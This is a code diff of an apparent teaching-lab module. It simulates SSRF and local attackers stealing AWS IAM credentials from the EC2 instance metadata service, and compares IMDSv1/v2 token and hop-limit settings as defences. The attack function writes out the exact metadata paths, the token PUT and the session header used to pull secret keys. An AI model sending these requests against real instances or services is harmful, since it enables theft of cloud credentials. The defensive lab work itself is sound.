@@ -1,52 +1,90 @@
 // @ts-check
-// A thumbnail service that fetches whatever address it is given, and who makes use of it. Each attack is requests to the core;
-// what came of it is read from the answers.
+// The lab's attackers, and what all of them try: the same requests in the same order. What each may say is decided by what lies
+// between them and the service, and what they get by the engine; nothing here knows an outcome.
 
 import { latin1, readAnswer } from '../engine.js';
+import { GET as PLAIN, HOST, PUT as TOKEN } from '../store.js';
+import { withLine } from '../compose.js';
+import { travel } from '../path/travel.js';
 
-const HOST = 'HTTP/1.1\r\nHost: 169.254.169.254\r\n';
-const ROLES = '/latest/meta-data/iam/security-credentials/';
+/** @typedef {import('../path/travel.js').Travel} Travel */
+/** `asks` is in which form the attacker's request is: a URL for the thumbnail service, or the request itself. @typedef {{ id: string, stages: { kind: string }[], asks: 'url' | 'request', method: boolean, fields: boolean }} Attacker */
+/** @typedef {{ what: 'role' | 'keys' | 'token' | 'session', request: string, travel: Travel, entry?: import('../world.js').Entry }} Try one request of an attack */
+/** @typedef {{ tries: Try[], leaked: Try | null, keys: string }} Outcome `keys` is the document, where it reached the attacker */
 
-/** The attackers, weakest first: by what they make the service send. @type {readonly { id: string, stages: readonly { kind: string }[], puts: boolean, fields: boolean }[]} */
+const at = (/** @type {string} */ kind) => [{ kind }];
+/** @type {Attacker[]} */
 export const ATTACKERS = [
-  { id: 'get', stages: [{ kind: 'getter' }], puts: false, fields: false },
-  { id: 'method', stages: [{ kind: 'caller' }], puts: true, fields: false },
-  { id: 'proxy', stages: [{ kind: 'relay' }, { kind: 'proxy' }], puts: true, fields: true },
-  { id: 'fields', stages: [{ kind: 'relay' }], puts: true, fields: true },
+  { id: 'get', stages: at('fetch-get'), asks: 'url', method: false, fields: false },
+  { id: 'method', stages: at('fetch-method'), asks: 'url', method: true, fields: false },
+  { id: 'any', stages: at('fetch-any'), asks: 'url', method: true, fields: true },
+  { id: 'proxy', stages: at('waf'), asks: 'request', method: true, fields: true },
+  { id: 'container', stages: at('bridge'), asks: 'request', method: true, fields: true },
+  { id: 'host', stages: [], asks: 'request', method: true, fields: true },
 ];
+/** The four whom the lab is about; the rest run programs on the instance. */
+export const OUTSIDE = 4;
 
-/** @typedef {{ exchange: import('../../../pkg/index.d.ts').Exchange | null }} Asked */
+export const CREDENTIALS = '/latest/meta-data/iam/security-credentials/';
+/** What an attacker takes the role's name to be who could not read it. */
+const GUESS = 'cli_role';
+/** @typedef {{ method: string, path: string, fields: string[] }} Wish what the attacker wants to be asked */
 
-/**
- * Tries a session, where the attacker can, and version 1.
- * @param {typeof ATTACKERS[number]} attacker
- * @param {(request: string, stages: readonly { kind: string }[]) => Asked} send
- * @param {boolean} contained whether the service runs in a container, a bridge away from the host
- * @returns {{ leaked: string | null, by: 'v1' | 'v2' | null }} the credentials, and how they came
- */
-export function attack(attacker, send, contained) {
-  const stages = [...attacker.stages.slice(0, 1), ...(contained ? [{ kind: 'bridge' }] : []), ...attacker.stages.slice(1)];
-  const ask = (/** @type {string} */ line, /** @type {string} */ fields) => {
-    const { exchange } = send(`${line} ${HOST}${fields}\r\n`, stages);
-    const answer = readAnswer(exchange);
-    return exchange?.status === 200 && answer ? latin1(answer.body) : null;
-  };
-  const steal = (/** @type {string} */ fields) => {
-    const role = ask(`GET ${ROLES}`, fields)?.split('\n')[0];
-    return role ? ask(`GET ${ROLES}${role}`, fields) : null;
-  };
-  if (attacker.puts) {
-    const token = ask('PUT /latest/api/token', attacker.fields ? 'X-aws-ec2-metadata-token-ttl-seconds: 21600\r\n' : '');
-    const leaked = token && attacker.fields ? steal(`X-aws-ec2-metadata-token: ${token}\r\n`) : null;
-    if (leaked) return { leaked, by: 'v2' };
+/** The bytes that the attacker sends for it. @param {Attacker} attacker @param {Wish} wish */
+export function requestOf({ asks }, { method, path, fields }) {
+  if (asks === 'request') {
+    return withLine(PLAIN, { method, path }).replace(/\r\n$/, () => `${fields.map((it) => `${it}\r\n`).join('')}\r\n`);
   }
-  const leaked = steal('');
-  return { leaked, by: leaked ? 'v1' : null };
+  const query = new URLSearchParams({ url: `http://${HOST}${path}` });
+  if (method !== 'GET') query.set('method', method);
+  for (const it of fields) query.append('field', it);
+  return `GET /thumbnail?${query} HTTP/1.1\r\nHost: thumbs.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: image/*\r\n\r\n`;
 }
 
-/** The options that the table compares. */
-export const DEFENCES = /** @type {const} */ ([
-  { http_tokens: 'optional', http_put_response_hop_limit: 1 },
-  { http_tokens: 'required', http_put_response_hop_limit: 2 },
-  { http_tokens: 'required', http_put_response_hop_limit: 1 },
-]);
+/** What reached the attacker: a body, where the service served one. @param {Travel} made */
+const read = ({ seen, exchange }) => (seen === 'answer' && exchange?.status === 200 ? latin1(readAnswer(exchange)?.body ?? new Uint8Array()) : '');
+
+/**
+ * First as version 1 has it, then as version 2. It ends with the keys, or when nothing is left to try.
+ * @param {Attacker} attacker
+ * @param {(request: string) => { travel: Travel, entry?: import('../world.js').Entry }} ask
+ * @returns {Outcome}
+ */
+export function attack(attacker, ask) {
+  /** @type {Try[]} */ const tries = [];
+  const attempt = (/** @type {Try['what']} */ what, /** @type {Wish} */ wish) => {
+    const request = requestOf(attacker, wish);
+    tries.push({ what, request, ...ask(request) });
+    return read(tries[tries.length - 1].travel);
+  };
+  const get = (/** @type {string} */ path, /** @type {string[]} */ fields = []) => ({ method: 'GET', path, fields });
+  const ended = (/** @type {string} */ keys) => ({ tries, keys: isKeys(keys) ? keys : '', leaked: isKeys(keys) ? tries[tries.length - 1] : null });
+  const role = attempt('role', get(CREDENTIALS)).split('\n')[0] || GUESS;
+  const keys = attempt('keys', get(CREDENTIALS + role));
+  if (isKeys(keys)) return ended(keys);
+  const [, ttl] = /^(X-aws-ec2-metadata-token-ttl-seconds: \d+)\r$/m.exec(TOKEN) ?? ['', ''];
+  const token = attempt('token', { method: 'PUT', path: '/latest/api/token', fields: [ttl] });
+  return ended(token && attempt('session', get(CREDENTIALS + role, [`X-aws-ec2-metadata-token: ${token}`])));
+}
+const isKeys = (/** @type {string} */ text) => text.includes('"SecretAccessKey"');
+
+/** Whose outcome the table shows, and under which options. */
+export const CONFIGURATIONS = ['optional', 'required'].flatMap((http_tokens) => [1, 2].map((http_put_response_hop_limit) => ({ http_tokens, http_put_response_hop_limit })));
+
+/**
+ * Every attacker against every configuration, asked of clones of the world as it is.
+ * @param {import('../world.js').World} world @param {string} instance
+ * @returns {{ configuration: typeof CONFIGURATIONS[number], outcomes: Record<string, Outcome>, requests: number }[]}
+ */
+export function outcomes(world, instance) {
+  return CONFIGURATIONS.map((configuration) => {
+    const imds = world.clone();
+    try {
+      imds.modify(/** @type {any} */ ({ ...configuration, http_endpoint: 'enabled' }), { instance });
+      const all = ATTACKERS.map((attacker) => [attacker.id, attack(attacker, (request) => ({ travel: travel(imds, new TextEncoder().encode(request), { now: world.now(), stages: attacker.stages, instance }) }))]);
+      return { configuration, outcomes: Object.fromEntries(all), requests: all.reduce((sum, [, { tries }]) => sum + /** @type {any} */ (tries).length, 0) };
+    } finally {
+      imds.free();
+    }
+  });
+}
